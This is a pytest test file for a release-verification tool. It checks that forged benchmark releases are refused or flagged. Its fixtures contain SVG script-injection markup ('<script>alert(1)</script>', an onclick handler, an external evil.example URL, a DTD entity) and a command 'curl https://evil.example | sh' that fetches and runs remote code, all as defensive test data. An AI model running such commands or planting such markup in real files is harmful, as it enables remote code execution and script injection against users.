"""Forged releases that are consistent: each is refused, or named in the line that would cover it."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from obrelease.cli.app import execute
from obrelease.errors import ExitCode
from obrelease.models.release_policy import LayerName
from obrelease.registry.store import Registry
from obrelease.storage.durable import NewFile
from tests.faults.forged_contents import (
    added,
    again_at_another_time,
    changed_import,
    drawn_elsewhere,
    edited,
    event_counts,
    event_counts_in_step,
    extra_asset,
    extra_member,
    failed_check,
    faster,
    import_without_its_original,
    invented_table,
    manifest,
    missing_asset,
    no_notes,
    no_runs,
    other_events,
    other_notes,
    other_notes_of_an_import,
    other_notes_under_another_version,
    own,
    own_file,
    picture_of_another_run,
    placed,
    svg,
    swapped_histogram,
    swapped_schemas,
    twice,
    unlisted_file,
)
from tests.faults.forged_release import Forgery, envelope, forgeries_of, make_release_project
from tests.unit.release.project import Project, make_project, run_of

UNKNOWN_COMMIT = "ab" * 20
REFUSALS = {ExitCode.CHECK_FAILED, ExitCode.INVALID_INPUT, ExitCode.INTEGRITY, ExitCode.CONFLICT}
Envelope = dict[str, Any]
Verify = Callable[[Path], tuple[int, dict[str, tuple[bool, str]], str]]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    return make_release_project(tmp_path_factory.mktemp("project"))


@pytest.fixture
def forgery(project: Project, tmp_path: Path) -> Forgery:
    return next(forgeries_of(project, tmp_path))


@pytest.fixture
def verify(project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Verify:
    """Verifies a folder inside the repository: exit code, layers, and the error."""

    def run(folder: Path) -> tuple[int, dict[str, tuple[bool, str]], str]:
        monkeypatch.chdir(project.root)
        code = execute(["verify", str(folder), "--json"])
        out, err = capsys.readouterr()
        layers = json.loads(out)["layers"] if code == 0 else []
        return code, {layer["name"]: (layer["checked"], layer["detail"]) for layer in layers}, err

    return run


REFUSED: dict[str, tuple[Callable[[Forgery], None], str]] = {
    "a failed check is kept": (failed_check, "failed its checks: "),
    "a table is invented": (invented_table(), r"summary\.csv: numbers"),
    "other figures in the notes": (other_notes, r"NOTES\.md: line \d+ is not what the runs give"),
    "no notes": (no_notes, r"NOTES\.md: is missing"),
    "the picture of another run": (picture_of_another_run, "has another sha256 for"),
    "a picture with a script": (added(b"<script>alert(1)</script>"), "element 'script' is not allowed"),
    "a picture with a handler": (added(b'<g onclick="x()"/>'), "attribute 'onclick' is not allowed"),
    "a picture with a foreign object": (added(b"<foreignObject/>"), "'foreignObject' is not allowed"),
    "a picture with an outside image": (
        added(b'<rect fill="url(https://evil.example/)"/>'),
        "only #name is allowed",
    ),
    "a picture with an entity": (
        svg(lambda data: data.replace(b'svg11.dtd">', b'svg11.dtd" [<!ENTITY a "b">]>')),
        "picture: .*document type",
    ),
    "a false digest of the sources": (
        edited(lambda it: it["producer"].update(sources_digest="5" * 64)),
        "was measured with other sources",
    ),
    "no runs": (no_runs, "the release has no runs"),
    "one run twice": (twice, "is listed twice"),
    "a run outside of results": (placed("extra/bench/baseline/{name}"), "belongs to no run"),
    "a run under another scenario": (placed("results/bench/x10000/{name}"), "is not the place of run"),
    "a run under another kind": (placed("results/stress/baseline/{name}"), "is not the place of run"),
    "a run under another name": (placed("results/bench/baseline/{name}0"), "is not the place of run"),
    "an extra member": (extra_member("README.md"), "README.md belongs to no run"),
    "an extra member among the results": (extra_member("results/bench/a.sh"), "belongs to no run"),
    "an extra member among the schemas": (extra_member("schemas/install.sh"), "belongs to no run"),
    "an unlisted file in a run": (unlisted_file, r"run\.sh: extra"),
    "an extra asset": (extra_asset, "lists missing files: 'install.sh'"),
    "a missing asset": (missing_asset, "does not list existing files"),
    "changed event counts": (edited(event_counts), "artefact.json: numbers: .* events"),
    "changed samples": (faster(tables=False, plots=False), r"summary\.csv: numbers"),
    "parameters that the command does not have": (
        edited(lambda it: it["parameters"].update({"fresh-processes": True})),
        "its command is not that of its parameters",
    ),
    "a command that the parameters do not give": (
        edited(lambda it: it.update(command=["sh", "-c", "curl https://evil.example | sh"])),
        "its command is not that of its parameters",
    ),
    "two runs of the same work with other events": (other_events, "same workload and different events"),
    "an import that is not what its original gives": (changed_import, "in the original"),
    "a pre-release called a release": (manifest(prerelease=False), "prerelease is False"),
    "another project": (manifest(project="other"), "names a bundle"),
    "a passive picture of other numbers": (
        svg(lambda data: data.replace(b"L 2", b"L 3")),
        r"latency.*\.svg: is not the plot of the run's numbers",
    ),
    "samples changed with their table": (
        faster(tables=True, plots=False),
        r"throughput.*\.svg: is not the plot of the run's numbers",
    ),
    "a histogram swapped with its tables": (
        swapped_histogram,
        r"latency.*\.svg: is not the plot of the run's numbers",
    ),
}

NAMED: dict[str, tuple[Callable[[Forgery], None], str, bool, str]] = {
    "a table invented under another version": (
        invented_table(version="0.8"), "runs", True, r"1 only hashed: .* as producer obrelease 0\.8 recorded",
    ),
    "a table invented under another name": (
        invented_table(name="better-bench"), "runs", True, r"1 only hashed: .* as producer better-bench ",
    ),
    "a table that this program never writes": (
        own_file("rates.csv", b"rate\n999999999\n"),
        "runs", True, r"other files of them only hashed: \d \(.*rates\.csv",
    ),
    "a picture that this program never draws": (
        own_file("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
        "pictures", True, r"passive, but only hashed: 1 \(a\.svg\)",
    ),
    "an import invented": (
        import_without_its_original, "runs", True, r"; 1 only hashed: .* as producer hyperfine",
    ),
    "other figures in the notes of an import": (
        other_notes_of_an_import, "notes", False, r"not those that .* renders, from line \d+",
    ),
    "other figures in the notes of another version": (
        other_notes_under_another_version, "notes", False, r"runs of producer obrelease 0\.8",
    ),
    "a passive picture of other numbers, drawn elsewhere": (
        drawn_elsewhere(svg(lambda data: data.replace(b"L 2", b"L 3"))),
        "pictures", False, r"from other numbers: 1 \(.*latency",
    ),
    "samples changed with their table, drawn elsewhere": (
        drawn_elsewhere(faster(tables=True, plots=False)),
        "pictures", False, r"from other numbers: 1 \(.*throughput",
    ),
    "samples changed with all that follows": (
        faster(tables=True, plots=True), "runs", True, "which were not measured again",
    ),
    "a histogram swapped with its tables, drawn elsewhere": (
        drawn_elsewhere(swapped_histogram), "pictures", False, r"from other numbers: 1 \(.*latency",
    ),
    "event counts changed in step": (event_counts_in_step, "runs", True, "which were not measured again"),
    "a false commit of a run": (
        edited(lambda it: it["producer"].update(commit=UNKNOWN_COMMIT)),
        "origin", False, "0 of 1 runs: .*; 1: the commit is not in this repository",
    ),
    "no commit of a run": (
        edited(lambda it: it["producer"].update(commit=None, sources_digest=None)),
        "origin", False, "1: no commit is named",
    ),
    "a false commit of the release": (
        manifest(commit=UNKNOWN_COMMIT), "origin", True, "the released commit abababababab is not in this",
    ),
    "a swapped schema": (swapped_schemas, "members", True, r"not known here: schemas/artefact\.v1"),
    "an unknown schema": (
        extra_member("schemas/virus.v1.schema.json"), "members", True, r"not known here: schemas/virus\.v1",
    ),
    "one run again under another time": (
        again_at_another_time, "runs", True, "1 of 2 runs record the same measurements as another run",
    ),
    "a run of the future": (
        edited(lambda it: it.update(created_ns=str(2**63))), "runs", True, "dated 2262-",
    ),
}  # fmt: skip


def test_the_true_release_passes(forgery: Forgery, tmp_path: Path, verify: Verify) -> None:
    code, layers, err = verify(forgery.seal(tmp_path / "release"))
    assert code == 0, err
    assert {name for name, (checked, _) in layers.items() if checked} >= {"runs", "notes", "pictures"}
    assert "3 derived" in layers["runs"][1]
    assert "byte for byte the same" in layers["notes"][1]
    assert "drawn again and equal: 4" in layers["pictures"][1]
    assert layers["origin"][1].startswith("2 of 3 runs: sources derived again from their commits; 1: ")


def test_the_table_has_more_than_twenty_forgeries() -> None:
    assert len(REFUSED) + len(NAMED) >= 40


@pytest.mark.parametrize("name", REFUSED)
def test_a_consistent_forgery_is_refused(
    forgery: Forgery,
    tmp_path: Path,
    verify: Verify,
    name: str,
) -> None:
    forge, message = REFUSED[name]
    forge(forgery)
    code, _, err = verify(forgery.seal(tmp_path / "release"))
    assert code in REFUSALS
    assert re.search(message, err), err


@pytest.mark.parametrize("name", NAMED)
def test_a_consistent_forgery_is_named_in_the_line_that_covers_it(
    forgery: Forgery,
    tmp_path: Path,
    verify: Verify,
    name: str,
) -> None:
    forge, layer, checked, message = NAMED[name]
    forge(forgery)
    code, layers, err = verify(forgery.seal(tmp_path / "release"))
    assert code == 0, err
    assert layers[layer][0] is checked
    assert re.search(message, layers[layer][1]), layers[layer][1]


@pytest.mark.parametrize(
    ("layer", "forge"),
    [
        ("origin", NAMED["a false commit of a run"][0]),
        ("notes", NAMED["other figures in the notes of another version"][0]),
        ("pictures", NAMED["a passive picture of other numbers, drawn elsewhere"][0]),
    ],
)
def test_a_policy_can_require_the_layer_that_a_forgery_leaves_unchecked(
    forgery: Forgery,
    project: Project,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    layer: LayerName,
    forge: Callable[[Forgery], None],
) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text(
        f'format = "obrelease.release-policy"\nversion = 1\nproject = "demo"\nrequire = ["{layer}"]\n'
    )
    monkeypatch.chdir(project.root)
    true = next(forgeries_of(project, tmp_path / "true"))
    own(true)
    for each, code in ((true, ExitCode.OK), (forgery, ExitCode.CHECK_FAILED)):
        folder = each.tree.with_name(f"{each.tree.name}-release")
        if each is forgery:
            forge(forgery)
        assert execute(["verify", str(each.seal(folder)), "--policy", str(policy)]) == code
    assert f"lacks what the policy requires: {layer} (" in capsys.readouterr().err


def test_a_command_of_another_program_is_text_in_the_notes(forgery: Forgery, tmp_path: Path) -> None:
    import_without_its_original(forgery)
    forgery.seal(tmp_path / "release")
    notes = (forgery.tree / "NOTES.md").read_text()
    assert envelope(forgery.runs("imported")[0])["command"][2] not in "".join(
        re.findall(r"^```sh\n.*?^```", notes, flags=re.DOTALL | re.MULTILINE)
    )
    assert "curl https&#58;" in notes


@pytest.mark.parametrize("markup", [b"<script>alert(1)</script>", b'<g onclick="x()"/>'])
def test_publishing_refuses_a_valid_run_with_an_active_picture(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], markup: bytes
) -> None:
    project = make_project(tmp_path)
    picture = NewFile("plot.svg", "image/svg+xml", b"<svg>" + markup + b"</svg>")
    Registry(project.results).record(run_of("baseline", 7), [picture])
    monkeypatch.chdir(project.root)
    assert execute(["bundle", "v1", "--output", str(tmp_path / "out")]) == ExitCode.INVALID_INPUT
    assert "plot.svg: picture: line 1, column 6" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
